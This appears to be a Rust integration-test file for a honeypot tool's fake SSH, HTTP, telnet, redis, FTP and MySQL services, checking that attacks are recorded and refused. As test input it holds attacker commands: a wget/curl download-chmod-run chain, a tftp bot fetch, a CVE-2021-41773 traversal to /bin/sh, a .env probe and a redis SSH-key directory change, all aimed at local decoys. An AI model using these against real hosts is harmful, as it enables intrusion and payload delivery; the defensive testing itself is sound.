@@ -1,0 +1,560 @@
+//! The SSH honeypot inside `tripline run`, driven by real clients: OpenSSH's `ssh` (with modern
+//! and with old algorithms) and paramiko. Every attempt is recorded (Cowrie JSON and pipeline
+//! events), the fake shell answers, port forwarding is refused, and nothing ever leaves the
+//! honeypot: a loopback listener named in `wget`/`curl` must see no connection.
+
+mod common;
+
+use std::io::Read;
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+fn daemon(dir: &Path, extra: &str) -> (common::Daemon, u16) {
+    let (cfg, _log) = common::watch_config(
+        dir,
+        &format!(
+            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n\
+             [honeypot]\ncowrie_log = {:?}\n[honeypot.ssh]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
+             auth_delay_ms = 50\n{extra}",
+            dir.join("cowrie.json").display().to_string()
+        ),
+    );
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
+    cmd.arg("-c").arg(&cfg).arg("run");
+    let d = common::start_command_with(cmd, "honeypot_ssh=");
+    let port = d
+        .api
+        .rsplit(':')
+        .next()
+        .and_then(|p| p.parse().ok())
+        .unwrap_or_else(|| panic!("no honeypot port in {:?}", d.api));
+    (d, port)
+}
+
+/// OpenSSH's `ssh` logging in with `password` (through SSH_ASKPASS) and running `cmd`.
+fn ssh(dir: &Path, port: u16, user: &str, password: &str, extra: &[&str], cmd: &str) -> Output {
+    let askpass = dir.join(format!("askpass-{}", password.len()));
+    std::fs::write(
+        &askpass,
+        format!("#!/bin/sh\nprintf '%s\\n' '{password}'\n"),
+    )
+    .unwrap();
+    std::process::Command::new("chmod")
+        .args(["755", askpass.to_str().unwrap()])
+        .status()
+        .unwrap();
+    Command::new("ssh")
+        .args(["-p", &port.to_string()])
+        .args([
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+            "-o",
+            "PreferredAuthentications=password",
+            "-o",
+            "PubkeyAuthentication=no",
+            "-o",
+            "NumberOfPasswordPrompts=1",
+            "-o",
+            "ConnectTimeout=10",
+            "-o",
+            "BatchMode=no",
+            "-o",
+            "LogLevel=ERROR",
+            "-F",
+            "/dev/null",
+        ])
+        .args(extra)
+        .arg(format!("{user}@127.0.0.1"))
+        .arg(cmd)
+        .env("SSH_ASKPASS", &askpass)
+        .env("SSH_ASKPASS_REQUIRE", "force")
+        .env("DISPLAY", ":0")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+/// The Cowrie JSON lines written so far, waiting until `want` lines match `pred`.
+fn cowrie_lines(
+    dir: &Path,
+    pred: impl Fn(&serde_json::Value) -> bool,
+    want: usize,
+) -> Vec<serde_json::Value> {
+    let end = Instant::now() + Duration::from_secs(10);
+    loop {
+        let text = std::fs::read_to_string(dir.join("cowrie.json")).unwrap_or_default();
+        let all: Vec<serde_json::Value> = text
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
+            .collect();
+        let hits: Vec<_> = all.iter().filter(|v| pred(v)).cloned().collect();
+        if hits.len() >= want || Instant::now() > end {
+            return hits;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+}
+
+/// The first alert printed within 10 s that `pred` accepts.
+fn wait_alert_where(
+    d: &common::Daemon,
+    pred: impl Fn(&serde_json::Value) -> bool,
+) -> serde_json::Value {
+    let end = Instant::now() + Duration::from_secs(10);
+    while let Some(left) = end.checked_duration_since(Instant::now()) {
+        match d.alerts.recv_timeout(left) {
+            Ok(a) if pred(&a) => return a,
+            Ok(_) => {}
+            Err(_) => break,
+        }
+    }
+    panic!("no such alert within 10 s");
+}
+
+/// A loopback listener that must never be connected to: what it saw, checked at the end.
+struct Trap(TcpListener);
+
+impl Trap {
+    fn new() -> Trap {
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        l.set_nonblocking(true).unwrap();
+        Trap(l)
+    }
+    fn port(&self) -> u16 {
+        self.0.local_addr().unwrap().port()
+    }
+    fn assert_untouched(&self) {
+        match self.0.accept() {
+            Ok((mut s, peer)) => {
+                let mut b = vec![];
+                let _ = s.read_to_end(&mut b);
+                panic!(
+                    "the honeypot connected out to the trap from {peer}: {:?}",
+                    String::from_utf8_lossy(&b)
+                );
+            }
+            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
+        }
+    }
+}
+
+#[test]
+fn openssh_logs_in_runs_commands_and_every_attempt_is_recorded() {
+    let dir = tempfile::tempdir().unwrap();
+    let (d, port) = daemon(dir.path(), "credentials = [\"root:letmein\"]\n");
+    let trap = Trap::new();
+
+    // a wrong password: refused, recorded with the client's version and HASSH
+    let bad = ssh(dir.path(), port, "root", "wrong", &[], "id");
+    assert!(!bad.status.success(), "{bad:?}");
+    let failed = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.failed", 1);
+    assert_eq!(failed[0]["username"], "root");
+    assert_eq!(failed[0]["password"], "wrong");
+    assert_eq!(failed[0]["src_ip"], "127.0.0.1");
+    assert_eq!(failed[0]["dst_port"], port);
+    assert!(failed[0]["version"]
+        .as_str()
+        .unwrap()
+        .starts_with("SSH-2.0-OpenSSH"));
+    assert_eq!(failed[0]["hassh"].as_str().unwrap().len(), 32);
+
+    // the right one: the fake shell answers, downloads are recorded and never made
+    let cmd = format!(
+        "uname -a; id; cd /tmp && wget http://127.0.0.1:{p}/x.sh; curl -s -O http://127.0.0.1:{p}/y; ls /tmp; chmod +x x.sh; ./x.sh",
+        p = trap.port()
+    );
+    let ok = ssh(dir.path(), port, "root", "letmein", &[], &cmd);
+    let out = String::from_utf8_lossy(&ok.stdout);
+    assert!(out.contains("Linux"), "{out}");
+    assert!(out.contains("uid=0(root)"), "{out}");
+    // wget and curl said what real ones say when the network fails, and made no file
+    assert!(out.contains("failed: Connection refused."), "{out}");
+    assert!(
+        !out.lines().any(|l| l.trim() == "x.sh" || l.trim() == "y"),
+        "nothing was downloaded: {out}"
+    );
+    let downloads = cowrie_lines(
+        dir.path(),
+        |v| v["eventid"] == "cowrie.session.file_download.failed",
+        2,
+    );
+    let urls: Vec<&str> = downloads.iter().filter_map(|v| v["url"].as_str()).collect();
+    assert!(urls.iter().any(|u| u.ends_with("/x.sh")), "{urls:?}");
+    assert!(urls.iter().any(|u| u.ends_with("/y")), "{urls:?}");
+    let cmds = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.command.input", 1);
+    assert!(cmds
+        .iter()
+        .any(|v| v["input"].as_str().unwrap().contains("uname -a")));
+
+    // the algorithms old bots use: group14-sha1, aes128-cbc, hmac-sha1, an RSA host key
+    let old = ssh(
+        dir.path(),
+        port,
+        "root",
+        "letmein",
+        &[
+            "-o",
+            "KexAlgorithms=diffie-hellman-group14-sha1",
+            "-o",
+            "Ciphers=aes128-cbc",
+            "-o",
+            "MACs=hmac-sha1",
+            "-o",
+            "HostKeyAlgorithms=ssh-rsa",
+        ],
+        "whoami",
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&old.stdout).trim(),
+        "root",
+        "{old:?}"
+    );
+
+    // stdio forwarding (direct-tcpip): refused and recorded
+    let fwd = ssh(
+        dir.path(),
+        port,
+        "root",
+        "letmein",
+        &["-W", &format!("127.0.0.1:{}", trap.port())],
+        "",
+    );
+    assert!(!fwd.status.success());
+    let proxy = cowrie_lines(
+        dir.path(),
+        |v| v["eventid"] == "cowrie.direct-tcpip.request",
+        1,
+    );
+    assert_eq!(proxy[0]["dst_port"], trap.port());
+
+    // the pipeline raised the honeypot alerts: a transfer on the address, and the session whose
+    // download, chmod and run tripped the tripwires, with the techniques of what it did
+    let a = wait_alert_where(&d, |a| {
+        a["rule"] == "honeypot.touch" && a["techniques"].to_string().contains("T1105")
+    });
+    assert_eq!(a["src_ip"], "127.0.0.1");
+    let s = wait_alert_where(&d, |a| a["rule"] == "honeypot.session");
+    assert_eq!(s["severity"], "critical", "{s}");
+    let t = s["techniques"].to_string();
+    assert!(t.contains("T1105") && t.contains("T1059.004"), "{s}");
+    assert!(!t.contains("T1098.004"), "only what happened: {s}");
+    trap.assert_untouched();
+    d.sigterm();
+}
+
+#[test]
+fn paramiko_gets_a_shell_with_a_pty_and_its_proxy_request_is_refused() {
+    let Some(python) = std::env::var_os("TRIPLINE_PYTHON") else {
+        panic!("TRIPLINE_PYTHON must name a Python with paramiko (scripts/check sets it)");
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let (d, port) = daemon(dir.path(), "accept_after = 2\n");
+    let trap = Trap::new();
+    let script = format!(
+        r#"
+import paramiko, time, sys
+def connect(pw):
+    c = paramiko.SSHClient()
+    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    c.connect("127.0.0.1", port={port}, username="admin", password=pw, look_for_keys=False, allow_agent=False, timeout=10)
+    return c
+try:
+    connect("first")
+    print("FIRST-ACCEPTED")
+except paramiko.AuthenticationException:
+    print("first refused")
+c = connect("second")
+ch = c.invoke_shell(term="xterm", width=80, height=24)
+def read_until(token, t=10):
+    buf = b""
+    end = time.time() + t
+    while time.time() < end and token not in buf:
+        if ch.recv_ready():
+            buf += ch.recv(65536)
+        else:
+            time.sleep(0.02)
+    return buf.decode("utf-8", "replace")
+print("PROMPT", read_until(b"$ ") != "")
+ch.send("cd /tmp\n"); read_until(b"$ ")
+ch.send("echo hello-from-paramiko > note.txt\n"); read_until(b"$ ")
+ch.send("cat note.txt\n"); print("CAT", read_until(b"$ "))
+ch.send("tftp -g -r bot 127.0.0.1 {trap}\n"); read_until(b"$ ")
+stdin, stdout, stderr = c.exec_command("hostname")
+print("HOSTNAME", stdout.read().decode().strip())
+try:
+    c.get_transport().open_channel("direct-tcpip", ("127.0.0.1", {trap}), ("127.0.0.1", 5555), timeout=10)
+    print("PROXY-OPENED")
+except Exception as e:
+    print("proxy refused", type(e).__name__)
+ch.send("exit\n"); time.sleep(0.2)
+c.close()
+"#,
+        port = port,
+        trap = trap.port()
+    );
+    let out = Command::new(python)
+        .arg("-c")
+        .arg(&script)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{text}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(text.contains("first refused"), "{text}");
+    assert!(text.contains("PROMPT True"), "{text}");
+    assert!(text.contains("hello-from-paramiko"), "{text}");
+    assert!(text.contains("proxy refused"), "{text}");
+    assert!(
+        !text.contains("PROXY-OPENED") && !text.contains("FIRST-ACCEPTED"),
+        "{text}"
+    );
+    let hostname = text
+        .lines()
+        .find_map(|l| l.strip_prefix("HOSTNAME "))
+        .unwrap_or("");
+    assert!(!hostname.is_empty() && hostname != "svr04", "{text}");
+    let ok = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.success", 1);
+    assert_eq!(ok[0]["username"], "admin");
+    assert_eq!(ok[0]["password"], "second");
+    assert!(
+        ok[0]["version"].as_str().unwrap().contains("paramiko"),
+        "{}",
+        ok[0]
+    );
+    let dl = cowrie_lines(
+        dir.path(),
+        |v| v["eventid"] == "cowrie.session.file_download.failed",
+        1,
+    );
+    assert!(!dl.is_empty(), "tftp was recorded");
+    trap.assert_untouched();
+    d.sigterm();
+}
+
+fn curl(args: &[&str]) -> (String, String) {
+    let out = Command::new("curl")
+        .args(["-s", "--path-as-is", "-m", "10", "-w", "\n%{http_code}"])
+        .args(args)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let (body, code) = text.rsplit_once('\n').unwrap_or((&text, ""));
+    (code.to_owned(), body.to_owned())
+}
+
+#[test]
+fn curl_against_the_http_decoy_logins_exploits_and_limits() {
+    let dir = tempfile::tempdir().unwrap();
+    let (cfg, _log) = common::watch_config(
+        dir.path(),
+        &format!(
+            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n\
+             [honeypot]\ncowrie_log = {:?}\n[honeypot.http]\nenabled = true\nbind = \"127.0.0.1:0\"\n\
+             profile = \"wordpress\"\nheader_timeout_seconds = 1.0\n",
+            dir.path().join("cowrie.json").display().to_string()
+        ),
+    );
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
+    cmd.arg("-c").arg(&cfg).arg("run");
+    let d = common::start_command_with(cmd, "honeypot_http=http://");
+    let base = format!("http://{}", d.api);
+
+    let (code, page) = curl(&[&format!("{base}/")]);
+    assert_eq!(code, "200");
+    assert!(
+        page.contains("name=\"pwd\"") && page.contains("WordPress"),
+        "{page}"
+    );
+    // credentials posted six times: each recorded, and the brute-force rule sshd feeds fires
+    for i in 0..6 {
+        let (code, page) = curl(&[
+            "-A",
+            "Mozilla/5.0",
+            "-d",
+            &format!("log=admin&pwd=guess{i}&wp-submit=Log+In"),
+            &format!("{base}/wp-login.php"),
+        ]);
+        assert_eq!(code, "200");
+        assert!(page.contains("login_error"), "{page}");
+    }
+    let logins = cowrie_lines(
+        dir.path(),
+        |v| v["eventid"] == "cowrie.login.failed" && v["protocol"] == "http",
+        6,
+    );
+    assert_eq!(logins.len(), 6);
+    assert_eq!(logins[5]["username"], "admin");
+    assert_eq!(logins[5]["password"], "guess5");
+    d.wait_alert("ssh.bruteforce", "127.0.0.1");
+
+    // an exploit attempt: named by its CVE, alerted
+    let (code, _) = curl(&[
+        "-A",
+        "Mozilla/5.0",
+        &format!("{base}/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"),
+    ]);
+    assert_eq!(code, "404");
+    let ex = cowrie_lines(dir.path(), |v| v["class"] == "exploit", 1);
+    assert_eq!(ex[0]["detail"], "CVE-2021-41773");
+    assert_eq!(ex[0]["eventid"], "tripline.http.request");
+    let a = d.wait_alert("honeypot.exploit", "127.0.0.1");
+    assert!(a["techniques"].to_string().contains("T1190"), "{a}");
+    // a scanner probing for secrets
+    let (code, _) = curl(&["-A", "zgrab/0.x", &format!("{base}/.env")]);
+    assert_eq!(code, "403");
+    let probe = cowrie_lines(dir.path(), |v| v["detail"] == "dotenv", 1);
+    assert_eq!(probe[0]["class"], "scanner");
+
+    // a 100 KB header is refused, a head sent too slowly is cut; the decoy keeps serving
+    for n in [40_000, 300_000] {
+        let file = dir.path().join(format!("header-{n}"));
+        std::fs::write(&file, format!("X-Junk: {}\n", "a".repeat(n))).unwrap();
+        let (code, _) = curl(&["-H", &format!("@{}", file.display()), &format!("{base}/")]);
+        assert_eq!(code, "431", "a {n}-byte header");
+    }
+    let mut slow = std::net::TcpStream::connect(&d.api).unwrap();
+    std::io::Write::write_all(&mut slow, b"GET / HTTP/1.1\r\nHost: x\r\n").unwrap();
+    slow.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let t = Instant::now();
+    let mut rest = vec![];
+    let _ = slow.read_to_end(&mut rest);
+    assert!(
+        t.elapsed() < Duration::from_secs(4),
+        "the slow head was cut after its timeout"
+    );
+    let (code, _) = curl(&[&format!("{base}/robots.txt")]);
+    assert_eq!(code, "200");
+    d.sigterm();
+}
+
+/// `nc` sending `input` (stdin closes after it; nc waits `wait` seconds for answers).
+fn nc(port: u16, input: &[u8], wait: u32) -> String {
+    use std::io::Write;
+    let mut c = Command::new("nc")
+        .args([
+            "-q",
+            &wait.to_string(),
+            "-w",
+            "5",
+            "127.0.0.1",
+            &port.to_string(),
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    c.stdin.take().unwrap().write_all(input).unwrap();
+    let out = c.wait_with_output().unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn nc_against_the_tcp_decoys_records_the_logins() {
+    let dir = tempfile::tempdir().unwrap();
+    let tcp: String = ["telnet", "redis", "ftp", "mysql", "banner"]
+        .iter()
+        .map(|p| {
+            format!(
+                "[[honeypot.tcp]]\nbind = \"127.0.0.1:0\"\nprofile = \"{p}\"\nbanner = \"SSH-1.99-Cisco-1.25\\r\\n\"\nreply = \"Protocol mismatch.\\n\"\n"
+            )
+        })
+        .collect();
+    let (cfg, _log) = common::watch_config(
+        dir.path(),
+        &format!(
+            "[api]\nenabled = false\n[output]\nstdout_json = true\n[detect]\nignore_self = false\n[honeypot]\ncowrie_log = {:?}\n{tcp}",
+            dir.path().join("cowrie.json").display().to_string()
+        ),
+    );
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_tripline"));
+    cmd.arg("-c").arg(&cfg).arg("run");
+    let d = common::start_command_with(cmd, "honeypot_tcp=");
+    let ports: Vec<u16> = d
+        .api
+        .split(',')
+        .map(|a| a.rsplit(':').next().unwrap().parse().unwrap())
+        .collect();
+    assert_eq!(ports.len(), 5, "{}", d.api);
+
+    let telnet = nc(ports[0], b"root\r\nhunter2\r\n", 2);
+    assert!(
+        telnet.contains("login: ") && telnet.contains("Password: "),
+        "{telnet:?}"
+    );
+    assert!(telnet.contains("Login incorrect"), "{telnet:?}");
+    let redis = nc(
+        ports[1],
+        b"PING\r\n*2\r\n$4\r\nAUTH\r\n$7\r\nfoobar1\r\nCONFIG SET dir /root/.ssh\r\n",
+        1,
+    );
+    assert!(redis.starts_with("+PONG\r\n-WRONGPASS"), "{redis:?}");
+    let ftp = nc(ports[2], b"USER anonymous\r\nPASS me@x.org\r\nQUIT\r\n", 2);
+    assert!(
+        ftp.starts_with("220 ") && ftp.contains("530 Login incorrect."),
+        "{ftp:?}"
+    );
+    let banner = nc(ports[4], b"hello\n", 1);
+    assert_eq!(banner, "SSH-1.99-Cisco-1.25\r\nProtocol mismatch.\n");
+
+    // MySQL: the greeting, then a client's login packet for user "sa"
+    let mut s = std::net::TcpStream::connect(("127.0.0.1", ports[3])).unwrap();
+    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut greet = [0u8; 256];
+    let n = s.read(&mut greet).unwrap();
+    assert!(n > 10 && greet[4] == 10, "protocol 10 greeting");
+    let mut body = vec![0u8; 32];
+    body.extend_from_slice(b"sa\0");
+    body.push(20);
+    body.extend_from_slice(&[7u8; 20]);
+    let mut pkt = vec![body.len() as u8, 0, 0, 1];
+    pkt.extend_from_slice(&body);
+    std::io::Write::write_all(&mut s, &pkt).unwrap();
+    let mut err = vec![];
+    let _ = s.read_to_end(&mut err);
+    assert!(
+        String::from_utf8_lossy(&err).contains("Access denied for user 'sa'"),
+        "{err:?}"
+    );
+
+    let logins = cowrie_lines(dir.path(), |v| v["eventid"] == "cowrie.login.failed", 4);
+    let by = |proto: &str| {
+        logins
+            .iter()
+            .find(|v| v["protocol"] == proto)
+            .unwrap_or_else(|| panic!("no {proto} login in {logins:?}"))
+            .clone()
+    };
+    assert_eq!(
+        (
+            by("telnet")["username"].clone(),
+            by("telnet")["password"].clone()
+        ),
+        ("root".into(), "hunter2".into())
+    );
+    assert_eq!(by("redis")["password"], "foobar1");
+    assert_eq!(
+        (by("ftp")["username"].clone(), by("ftp")["password"].clone()),
+        ("anonymous".into(), "me@x.org".into())
+    );
+    assert_eq!(by("mysql")["username"], "sa");
+    let cmds = cowrie_lines(
+        dir.path(),
+        |v| v["eventid"] == "cowrie.command.input" && v["protocol"] == "redis",
+        1,
+    );
+    assert!(
+        cmds[0]["input"]
+            .as_str()
+            .unwrap()
+            .contains("CONFIG SET dir"),
+        "{cmds:?}"
+    );
+    d.sigterm();
+}
